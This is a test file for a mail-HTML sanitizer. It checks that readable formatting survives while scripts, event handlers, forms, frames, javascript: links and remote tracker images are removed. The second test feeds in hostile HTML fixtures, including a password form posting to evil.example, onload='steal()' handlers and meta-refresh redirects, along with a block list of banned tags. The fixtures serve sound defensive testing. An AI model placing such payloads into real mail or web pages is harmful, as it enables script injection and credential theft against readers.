// The logged mail's HTML made safe (domain/mailHtml.ts): what a mail may carry to run code, load from the
// Internet or post a form is gone; what a person reads (text, emphasis, tables, colours, embedded pictures, links)
// stays, and the viewer is told when remote content was left out.
import assert from 'node:assert/strict';
import { sanitizeMailHtml } from '../../../server/domain/mailHtml.js';

const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

describe('domain/mailHtml: sanitizing a logged mail’s HTML', () => {
  it('keeps what a person reads: text, emphasis, tables, safe styles, embedded pictures', () => {
    const { html, remoteContentBlocked } = sanitizeMailHtml(
      '<div style="color: #333; font-size: 14px"><p>Dear <b>Anna</b>,</p>' +
        '<table border="1"><tr><td colspan="2" style="background-color: rgb(240, 240, 240)">Price</td></tr></table>' +
        `<img src="${PIXEL}" alt="Logo" width="20"></div>`,
    );
    assert.equal(remoteContentBlocked, false);
    assert.match(html, /<p>Dear <b>Anna<\/b>,<\/p>/);
    assert.match(html, /<td colspan="2" style="background-color:rgb\(240, 240, 240\)">Price<\/td>/);
    assert.match(html, /<div style="color:#333;font-size:14px">/);
    assert.ok(html.includes(`<img src="${PIXEL}" alt="Logo" width="20" />`), html);
  });

  it('drops scripts, event handlers, forms, frames, style sheets and javascript: links', () => {
    const { html } = sanitizeMailHtml(
      '<head><style>p{color:red}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"></head>' +
        '<body onload="steal()"><script>alert(1)</script><p onclick="steal()">Hi</p>' +
        '<a href="javascript:alert(1)">x</a><a href="https://fabrikam.example/offer">offer</a>' +
        '<form action="https://evil.example/"><input name="password"><button>Send</button></form>' +
        '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><svg onload="x()"></svg></body>',
    );
    for (const banned of [
      '<script',
      'alert',
      'onload',
      'onclick',
      '<form',
      '<input',
      '<iframe',
      '<object',
      '<svg',
    ])
      assert.ok(!html.includes(banned), `${banned} in ${html}`);
    for (const banned of ['<style', '<base', '<meta', 'javascript:', 'evil.example'])
      assert.ok(!html.includes(banned), `${banned} in ${html}`);
    assert.match(
      html,
      /<a href="https:\/\/fabrikam\.example\/offer" target="_blank" rel="noopener noreferrer">offer<\/a>/,
    );
  });

  it('leaves out everything that would load from the Internet, and says so', () => {
    for (const remote of [
      '<img src="https://tracker.example/p.gif" alt="">',
      '<img src="//tracker.example/p.gif">',
      '<img src="cid:logo@contoso">',
      '<p style="background: url(https://tracker.example/bg.png)">x</p>',
      '<p style="background-image:URL( \'https://tracker.example/bg.png\' )">x</p>',
      '<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>',
      '<img srcset="https://tracker.example/a.png 2x" src="https://tracker.example/b.png">',
    ]) {
      const { html, remoteContentBlocked } = sanitizeMailHtml(remote);
      assert.ok(!/tracker\.example|cid:|url\(/i.test(html), `${remote} -> ${html}`);
      assert.equal(remoteContentBlocked, !remote.includes('cid:'), remote);
    }
  });
});
